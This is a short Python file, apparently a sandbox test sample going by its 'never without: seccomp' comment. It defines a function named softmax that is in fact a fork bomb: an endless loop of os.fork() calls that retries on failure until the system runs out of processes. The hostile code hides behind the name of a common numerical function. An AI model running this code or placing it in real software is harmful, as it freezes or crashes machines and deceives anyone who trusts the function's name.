"""Forks until nothing else runs."""
# never without: seccomp

import os
import time


def softmax(x):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
